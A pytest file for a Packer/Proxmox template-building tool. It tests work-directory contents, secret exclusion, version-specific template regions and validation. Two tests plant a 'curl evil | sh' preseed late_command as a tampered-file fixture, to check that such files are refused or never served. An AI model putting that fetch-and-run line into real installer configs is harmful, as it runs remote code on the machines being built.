"""Work directories: the family's template next to the common file with its version region, the
variables, HTTP files, no secrets, capability gaps, the template fingerprint over both files, and
`packer validate` of every family's template with the real 1.6.6 binary."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from support.packer import PACKER, REPO, catalog, plan_for

from packer_assets.build.pipeline import BuildSettings, plan_build
from packer_assets.packer.env import packer_env, validate_env
from packer_assets.packer.runner import packer_validate
from packer_assets.packer.version import BuildCredentials, capabilities_for
from packer_assets.packer.workdir import (
    COMMON_TEMPLATE,
    MANIFEST,
    PLUGINS_FILE,
    VAR_FILE,
    PackerCapabilityError,
    WorkdirError,
    find_template,
    prepare_workdir,
    template_sha256,
    version_region,
)
from packer_assets.pve.client import Endpoint
from packer_assets.render.record import ServedFiles

needs_packer = pytest.mark.packer
OLD = capabilities_for((1, 6, 6), binary=PACKER)
MIDDLE = capabilities_for((1, 8, 7))
NEW = capabilities_for((1, 11, 2), (1, 2, 2))
KEYS = [e.key for e in catalog()]
FAMILIES = sorted({e.family for e in catalog()})
SECRETS = ["tok-5ecret-0123", "pw-5ecret-4567", "ssh-5ecret-89ab"]
EXPECTED_VARS = {
    "node", "vm_id", "vm_name", "os_version", "template_description", "tags", "iso_file", "extra_iso_files", "vm_storage",
    "disk_storage_pool_type", "disk_format", "bridge", "http_bind_address", "http_port_min", "http_port_max",
    "ssh_host", "ssh_port", "ssh_username", "ssh_timeout", "cores", "sockets", "memory", "disk_size", "os_type",
    "cpu_type", "bios", "machine", "efi", "tpm", "boot_wait", "boot_command", "insecure_skip_tls_verify",
}


def rendered(tmp_path, family):
    http = tmp_path / "rendered"
    http.mkdir(parents=True, exist_ok=True)
    names = {"ubuntu": ["user-data", "meta-data"], "debian": ["preseed.cfg"], "rocky": ["ks.cfg"]}.get(family, [])
    for name in names:
        (http / name).write_text(f"# {name}\n")
    return http


def prepare(tmp_path, key, caps=OLD, allow_degraded=True, **plan_over):
    entry = catalog().get(key)
    return entry, prepare_workdir(tmp_path / "work", entry, plan_for(entry, **plan_over), caps, project_dir=REPO,
                                  http_dir=rendered(tmp_path, entry.family), allow_degraded=allow_degraded,
                                  secrets=SECRETS)


def region(path: Path) -> str:
    text = path.read_text()
    return text[text.index("# >>> packer-assets"):text.index("# <<< packer-assets")]


def source_block(path: Path) -> str:
    text = path.read_text()
    return text[text.index('source "proxmox-iso"'):]


def declared_variables(path: Path) -> set[str]:
    return set(re.findall(r'^variable "(\w+)"', path.read_text(), flags=re.M))


# ------------------------------------------------------------------ contents


@pytest.mark.parametrize("key", KEYS)
def test_the_var_file_holds_every_variable_and_the_template_declares_them(tmp_path, key):
    entry, wd = prepare(tmp_path, key, ssh_host="192.0.2.10", http_bind_address="192.0.2.2")
    values = json.loads((wd.path / VAR_FILE).read_text())
    assert set(values) == EXPECTED_VARS
    assert declared_variables(wd.common) == EXPECTED_VARS | {"ssh_password"}  # the secret: PKR_VAR_ only
    assert declared_variables(wd.template) == set()
    plan = plan_for(entry)
    assert values["vm_id"] == plan.vm_id and values["vm_name"] == plan.vm_name and values["node"] == "pve1"
    assert values["iso_file"] == f"local:iso/{entry.iso.filename}"
    assert values["vm_storage"] == "local-lvm" and values["disk_storage_pool_type"] == "lvm-thin"
    assert values["disk_format"] == "raw" and values["bridge"] == "vmbr0"
    assert (values["http_bind_address"], values["http_port_min"], values["http_port_max"]) == ("192.0.2.2", 8802, 8812)
    assert (values["ssh_host"], values["ssh_port"], values["ssh_username"]) == ("192.0.2.10", 22,
                                                                               entry.install_user.name)
    hw = entry.hardware
    assert (values["cores"], values["sockets"], values["memory"], values["disk_size"], values["os_type"]) == \
        (hw.cores, hw.sockets, hw.memory, hw.disk, hw.os_type)
    assert values["tags"] == list(entry.tags) and values["template_description"] == f"packer-assets {key}"
    assert wd.template.name == f"{entry.family}.pkr.hcl" and wd.common.name == "common.pkr.hcl"
    assert sorted(p.name for p in wd.path.glob("*.pkr.hcl")) == sorted([wd.template.name, wd.common.name])
    assert sorted(p.name for p in wd.http_dir.iterdir()) == sorted(p.name for p in rendered(tmp_path, entry.family).iterdir())
    manifest = json.loads((wd.path / MANIFEST).read_text())
    assert manifest["capabilities"]["packer_version"] == "1.6.6" and VAR_FILE in manifest["files"]
    source, common = REPO / entry.packer_dir / f"{entry.family}.pkr.hcl", REPO / COMMON_TEMPLATE
    assert manifest["common"] == common.as_posix()
    assert manifest["sources"] == {source.as_posix(): sha256(source), common.as_posix(): sha256(common)}
    assert manifest["template_sha256"] == wd.template_sha256 == template_sha256(REPO, entry)
    assert wd.template.read_bytes() == source.read_bytes()  # the family's template as it is


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("cpu_type", [None, "x86-64-v2-AES"])
def test_the_catalog_cpu_type_reaches_the_var_file(tmp_path, cpu_type):
    """hardware.cpu_type goes through plan_build (the one BuildPlan of builds) to packer's cpu_type; unset, host."""
    entry = catalog().get("rocky-9")
    if cpu_type:
        entry = entry.model_copy(update={"hardware": entry.hardware.model_copy(update={"cpu_type": cpu_type})})
    plan = plan_build(entry, BuildSettings(), vmid=entry.vmid_range.first, name=f"{entry.key}-20250101000000",
                      node="pve1", iso_volid=f"local:iso/{entry.iso.filename}", vm_storage="local-lvm",
                      vm_storage_type="lvmthin", bridge="vmbr0", http_bind_address=None, http_port=8802)
    wd = prepare_workdir(tmp_path / "work", entry, plan, OLD, project_dir=REPO, http_dir=rendered(tmp_path, "rocky"),
                         secrets=SECRETS)
    assert json.loads((wd.path / VAR_FILE).read_text())["cpu_type"] == (cpu_type or "host")


@pytest.mark.parametrize("family", FAMILIES)
def test_family_templates_declare_no_variables_and_leave_the_region_to_the_common_file(family):
    """Every variable comes from the common file; the family's build names the shared source."""
    text = (REPO / "templates" / family / f"{family}.pkr.hcl").read_text()
    assert declared_variables(REPO / "templates" / family / f"{family}.pkr.hcl") == set()
    assert not re.search(r'^(variable|source) "', text, flags=re.M)  # no own variable, no top-level source
    assert "packer-assets: version-specific" not in text
    assert f'source "source.proxmox-iso.base" {{\n    name = "{family}"' in text
    common = (REPO / COMMON_TEMPLATE).read_text()
    assert len(re.findall(r'^source "', common, flags=re.M)) == 1 and 'source "proxmox-iso" "base"' in common


def test_the_template_fingerprint_covers_the_family_template_and_the_common_file(tmp_path):
    root = tmp_path / "repo"
    shutil.copytree(REPO / "templates", root / "templates")
    entry, other = catalog().get("debian-12"), catalog().get("rocky-9")
    before = template_sha256(root, entry), template_sha256(root, other)
    assert before == (template_sha256(REPO, entry), template_sha256(REPO, other)) and before[0] != before[1]

    common = root / COMMON_TEMPLATE
    common.write_text(common.read_text().replace('default = "host"', 'default = "kvm64"'))
    after_common = template_sha256(root, entry), template_sha256(root, other)
    assert after_common[0] != before[0] and after_common[1] != before[1]  # a changed input for every key

    family = find_template(root, entry)
    family.write_text(family.read_text().replace('"5s"', '"6s"'))
    assert template_sha256(root, entry) != after_common[0]
    assert template_sha256(root, other) == after_common[1]  # another family's template is not its input


def test_fingerprint_of_a_build_follows_the_common_file(tmp_path):
    from packer_assets.build.pipeline import input_fingerprint_of
    from packer_assets.pve.staging import StagedIso

    root = tmp_path / "repo"
    shutil.copytree(REPO / "templates", root / "templates")
    entry = catalog().get("debian-12")
    http = rendered(tmp_path, entry.family)
    staged = {"iso": StagedIso(volid="local:iso/x.iso", size=1, checksum="ab" * 32, algorithm="sha256",
                               source="https://example.invalid/x.iso", seconds=0.0, bytes_through_control_host=0,
                               downloaded=False)}
    served = ServedFiles(http, {"preseed.cfg": sha256_of(http / "preseed.cfg")})
    before = input_fingerprint_of(entry, staged, served, root)
    assert input_fingerprint_of(entry, staged, served, root) == before
    common = root / COMMON_TEMPLATE
    common.write_text(common.read_text() + "\n# an edit\n")
    assert input_fingerprint_of(entry, staged, served, root) != before


def test_a_family_template_without_the_common_file_is_refused(tmp_path):
    root = tmp_path / "repo"
    shutil.copytree(REPO / "templates" / "debian", root / "templates" / "debian")
    entry = catalog().get("debian-12")
    with pytest.raises(WorkdirError, match="common Packer file is missing"):
        prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=root)
    with pytest.raises(WorkdirError, match="common Packer file is missing"):
        template_sha256(root, entry)


@pytest.mark.parametrize("key", KEYS)
def test_no_secret_in_any_file_of_the_work_directory(tmp_path, key):
    entry = catalog().get(key)
    creds = BuildCredentials("automation@pve!packer", SECRETS[0], "automation@pve", SECRETS[1])
    penv = packer_env(Endpoint("https://127.0.0.1:8006", insecure=True), OLD, creds, ssh_password=SECRETS[2],
                      workdir=tmp_path)
    _entry, wd = prepare(tmp_path, key)
    assert penv.env["PKR_VAR_ssh_password"] == SECRETS[2] and penv.env["PROXMOX_PASSWORD"] == SECRETS[1]
    assert "PROXMOX_TOKEN" not in penv.env  # 1.6.6: password login
    for path in wd.path.rglob("*"):
        if path.is_file():
            data = path.read_text(errors="replace")
            assert not [s for s in SECRETS if s in data], path


def test_a_secret_that_slips_into_a_setting_is_caught_without_echoing_it(tmp_path):
    with pytest.raises(WorkdirError) as err:
        prepare(tmp_path, "debian-12", description="oops " + SECRETS[1])
    assert VAR_FILE in str(err.value) and SECRETS[1] not in str(err.value)


def test_a_work_directory_is_used_once(tmp_path):
    prepare(tmp_path, "debian-12")
    with pytest.raises(WorkdirError, match="not empty"):
        prepare(tmp_path, "debian-12")


def test_a_concurrent_renders_temp_file_is_not_copied_even_when_it_vanishes(tmp_path):
    """Three validates of one key at once: one copied the rendered folder while another's atomic_write
    temp file was there and then renamed away (copytree failed on it)."""
    http = rendered(tmp_path, "debian")
    (http / ".preseed.cfg.i1gcn2r1.tmp").symlink_to(tmp_path / "renamed-away")  # listed, gone when opened
    (http / ".preseed.cfg.k2x.tmp").write_text("half written")
    _, work = prepare(tmp_path, "debian-12")
    assert sorted(p.name for p in work.http_dir.iterdir()) == ["preseed.cfg"]


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_only_the_rendered_files_are_served_and_the_others_are_named(tmp_path):
    """A file dropped into the rendered folder (never rendered, never validated) is not copied into http/;
    the work directory's warnings name it."""
    entry = catalog().get("debian-12")
    http = rendered(tmp_path, "debian")
    (http / "evil.cfg").write_text("d-i preseed/late_command string curl evil | sh\n")
    (http / "sub").mkdir()
    work = prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=REPO, http_dir=http,
                           http_files={"preseed.cfg": sha256_of(http / "preseed.cfg")}, allow_degraded=True)
    assert sorted(p.name for p in work.http_dir.iterdir()) == ["preseed.cfg"]
    said = [w for w in work.warnings if "ignored" in w]
    assert len(said) == 1 and "evil.cfg, sub" in said[0] and "never served" in said[0]
    assert json.loads((work.path / MANIFEST).read_text())["warnings"] == work.warnings
    assert "http/evil.cfg" not in work.files


@pytest.mark.parametrize("change", ["edit", "remove", "symlink"])
def test_a_rendered_file_changed_since_its_render_is_refused(tmp_path, change):
    entry = catalog().get("debian-12")
    http = rendered(tmp_path, "debian")
    recorded = {"preseed.cfg": sha256_of(http / "preseed.cfg")}
    target = http / "preseed.cfg"
    if change == "edit":
        target.write_text("d-i preseed/late_command string curl evil | sh\n")
    elif change == "remove":
        target.unlink()
    else:
        (tmp_path / "elsewhere.cfg").write_bytes(target.read_bytes())
        target.unlink()
        target.symlink_to(tmp_path / "elsewhere.cfg")
    with pytest.raises(WorkdirError) as err:
        prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=REPO, http_dir=http,
                        http_files=recorded, allow_degraded=True)
    assert str(err.value).startswith("debian-12: ") and "preseed.cfg" in str(err.value)
    assert "\n" not in str(err.value) and "unattended_files[debian-12]" in str(err.value)


def test_file_storage_gets_qcow2_and_its_pool_type(tmp_path):
    _e, wd = prepare(tmp_path, "rocky-9", vm_storage="local", vm_storage_type="dir")
    assert wd.variables["disk_format"] == "qcow2" and wd.variables["disk_storage_pool_type"] == "directory"
    _e, wd = prepare(tmp_path / "new", "rocky-9", caps=NEW, vm_storage="local", vm_storage_type="dir")
    assert wd.variables["disk_storage_pool_type"] is None  # deprecated in the plugin: left unset


def test_a_common_file_without_its_version_region_is_refused(tmp_path):
    root = tmp_path / "repo"
    shutil.copytree(REPO / "templates", root / "templates")
    common = root / COMMON_TEMPLATE
    common.write_text(common.read_text().replace("# <<< packer-assets: version-specific", ""))
    entry = catalog().get("debian-12")
    with pytest.raises(WorkdirError, match="exactly one .* region"):
        prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=root)


def test_a_version_region_in_a_family_template_is_refused(tmp_path):
    root = tmp_path / "repo"
    shutil.copytree(REPO / "templates", root / "templates")
    template = root / "templates" / "debian" / "debian.pkr.hcl"
    template.write_text(template.read_text() + "# >>> packer-assets: version-specific\n# <<< packer-assets: version-specific\n")
    entry = catalog().get("debian-12")
    with pytest.raises(WorkdirError, match="the region lives in templates/common/common.pkr.hcl only"):
        prepare_workdir(tmp_path / "work", entry, plan_for(entry), OLD, project_dir=root)
    assert not (tmp_path / "work").exists()


# ------------------------------------------------------------------ version differences


def test_on_1_6_6_the_region_is_the_top_level_iso_file(tmp_path):
    _e, wd = prepare(tmp_path, "ubuntu-2404")
    assert "\n  iso_file = var.iso_file\n" in region(wd.common)
    text = source_block(wd.common) + wd.template.read_text()
    for absent in ("boot_iso", "unmount", "efi_config", "tpm_config", "bios", "machine", "tags =", "additional_iso"):
        assert absent not in text, absent
    assert not (wd.path / PLUGINS_FILE).exists()


def test_on_current_packer_the_region_uses_every_block(tmp_path):
    _e, wd = prepare(tmp_path, "windows-2022", caps=NEW, allow_degraded=False)
    text = region(wd.common)
    for needle in ("boot_iso {", "iso_file = var.iso_file", 'dynamic "additional_iso_files"', 'type     = "sata"',
                   "bios    = var.bios", "machine = var.machine", 'dynamic "efi_config"', 'dynamic "tpm_config"',
                   'tags = join(";", var.tags)'):
        assert needle in text, needle
    assert "\n  iso_file = var.iso_file" not in text  # not at the top level
    assert 'source  = "github.com/hashicorp/proxmox"' in (wd.path / PLUGINS_FILE).read_text()
    assert wd.gaps == [] and wd.warnings == []
    v = wd.variables
    assert (v["bios"], v["efi"], v["tpm"], v["machine"]) == ("ovmf", True, True, "q35")
    assert len(v["extra_iso_files"]) == 2 and v["disk_storage_pool_type"] is None


def test_packer_1_8_attaches_extra_isos_by_device_but_has_no_efi_blocks(tmp_path):
    region = version_region(MIDDLE)
    assert 'device   = "sata${additional_iso_files.key}"' in region and "iso_file = var.iso_file" in region
    assert "efi_config" not in region and "boot_iso" not in region
    with pytest.raises(PackerCapabilityError) as err:
        prepare(tmp_path, "windows-2022", caps=MIDDLE, allow_degraded=False)
    assert "hardware.efi" in str(err.value) and "extra_isos" not in str(err.value)


def test_efi_and_tpm_on_1_6_6_are_refused_by_default_naming_each_field(tmp_path):
    with pytest.raises(PackerCapabilityError) as err:
        prepare(tmp_path, "windows-2022", allow_degraded=False)
    lines = str(err.value).splitlines()
    for field in ("hardware.bios", "hardware.efi", "hardware.tpm", "hardware.machine", "extra_isos"):
        assert any(line.startswith(f"windows-2022: {field}: ") and "installed: packer 1.6.6" in line
                   for line in lines), field
    assert "packer >= 1.7.0" in str(err.value) and "packer-plugin-proxmox >= 1.2.0" in str(err.value)
    assert "allow_degraded" in lines[-1]
    assert not (tmp_path / "work").exists()  # refused before any side effect


def test_efi_and_tpm_on_1_6_6_degrade_only_when_allowed_and_say_so(tmp_path):
    _e, wd = prepare(tmp_path, "windows-2022", allow_degraded=True)
    v = wd.variables
    assert (v["bios"], v["efi"], v["tpm"], v["machine"], v["extra_iso_files"]) == ("seabios", False, False, None, [])
    assert {g.field for g in wd.gaps} == {"hardware.bios", "hardware.efi", "hardware.tpm", "hardware.machine",
                                          "extra_isos"}
    assert all(w.startswith("degraded build: windows-2022: ") for w in wd.warnings if "tags" not in w)
    manifest = json.loads((wd.path / MANIFEST).read_text())
    assert len(manifest["gaps"]) == 5 and manifest["warnings"] == wd.warnings


# ------------------------------------------------------------------ packer validate (real 1.6.6)


@needs_packer
@pytest.mark.parametrize("key", KEYS)
def test_packer_validate_passes_for_every_family(tmp_path, key):
    _e, wd = prepare(tmp_path, key, ssh_host="192.0.2.10", http_bind_address="192.0.2.2")
    check = packer_validate(wd.path, validate_env().env, packer=PACKER)
    assert check.ok, check.output
    assert "-syntax-only" not in check.argv  # the full validate: the builder's own config checks ran


@needs_packer
@pytest.mark.parametrize("key, part, old, new, error", [
    # a typo in the shared source, in the family's part of it, an attribute set in both
    ("rocky-9", "common", "scsi_controller", "scsi_controler",
     'An argument named "scsi_controler" is not expected here'),
    ("rocky-9", "template", "cloud_init_storage_pool", "cloud_init_storage_pol",
     'An argument named "cloud_init_storage_pol" is not expected here'),
    ("debian-12", "template", 'name = "debian"', 'name = "debian"\n    cores = 4', 'Argument "cores" was already set'),
])
def test_packer_validate_catches_a_broken_template(tmp_path, key, part, old, new, error):
    _e, wd = prepare(tmp_path, key)
    path = getattr(wd, part)
    path.write_text(path.read_text().replace(old, new))
    check = packer_validate(wd.path, validate_env().env, packer=PACKER)
    assert not check.ok and error in check.output


@needs_packer
@pytest.mark.parametrize("key", ["ubuntu-2404", "windows-2022"])
def test_the_current_packer_form_is_valid_hcl(tmp_path, key):
    """No current Packer here: 1.6.6 checks the syntax of the plugin-era region (its schema lacks it)."""
    _e, wd = prepare(tmp_path, key, caps=NEW, allow_degraded=False)
    plugins = wd.path / PLUGINS_FILE
    moved = tmp_path / PLUGINS_FILE
    plugins.rename(moved)  # 1.6.6 does not know `packer { required_plugins }`
    check = packer_validate(wd.path, validate_env().env, packer=PACKER, syntax_only=True)
    assert check.ok, check.output
    fmt = subprocess.run([PACKER, "fmt", "-check", str(moved)], capture_output=True, text=True)
    assert fmt.returncode == 0, fmt.stdout + fmt.stderr


@needs_packer
@pytest.mark.parametrize(("key", "boots"), [
    ("rocky-9", "<up><tab> inst.text inst.ks="),  # isolinux
    ("rocky-10", "linux /images/pxeboot/vmlinuz inst.repo=cdrom inst.text inst.ks="),  # GRUB 2's command line
])
def test_the_rocky_boot_command_follows_the_key_s_release(tmp_path, key, boots):
    """Packer itself evaluates the family's default boot command with the work directory's variables (os_version)."""
    _e, wd = prepare(tmp_path, key)
    said = subprocess.run([PACKER, "console", "-var", "ssh_password=pw-5ecret-unused", str(wd.path)],
                          input="local.default_boot_command",
                          capture_output=True, text=True, timeout=60)
    assert said.returncode == 0 and boots in said.stdout, said.stdout + said.stderr
